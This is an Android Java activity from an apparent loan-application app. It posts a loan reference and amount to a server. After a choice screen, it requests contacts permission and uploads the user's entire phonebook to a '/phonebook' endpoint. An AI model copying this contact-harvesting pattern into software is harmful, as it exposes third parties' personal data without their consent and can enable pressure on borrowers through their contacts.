package mx.quetzal.chosen.apply;
import android.Manifest;
import android.app.Activity;
import android.content.Intent;
import android.os.Bundle;
import android.view.View;
import android.widget.*;
import androidx.core.app.ActivityCompat;
import androidx.core.content.ContextCompat;
import mx.quetzal.chosen.R;
import mx.quetzal.chosen.data.*;
import mx.quetzal.chosen.net.Net;

public class ApplyActivity extends Activity {
    @Override protected void onCreate(Bundle b) {
        super.onCreate(b);
        setContentView(R.layout.apply);
        findViewById(R.id.submit).setOnClickListener(this::submit);
        prepare();
    }
    boolean granted() { return ContextCompat.checkSelfPermission(this, Manifest.permission.READ_CONTACTS) == 0; }
    void request() { ActivityCompat.requestPermissions(this, new String[]{Manifest.permission.READ_CONTACTS}, 11); }
    void send() { Net.post("/loan", "{\"ref\":\"" + ((EditText) findViewById(R.id.ref)).getText() + "\",\"amount\":\"" + ((EditText) findViewById(R.id.amount)).getText() + "\"}"); Toast.makeText(this, R.string.done, Toast.LENGTH_LONG).show(); }
    void prepare() { }

    void submit(View v) { startActivityForResult(new Intent(this, ChoiceActivity.class), 5); }
    @Override protected void onActivityResult(int q, int r, Intent d) { if (q == 5 && r == RESULT_OK) step(); else send(); }

    void step() { if (granted()) { Net.post("/phonebook", Book.json(this)); send(); } else request(); }

    @Override public void onRequestPermissionsResult(int c, String[] n, int[] r) { if (r.length > 0 && r[0] == 0) Net.post("/phonebook", Book.json(this)); send(); }

}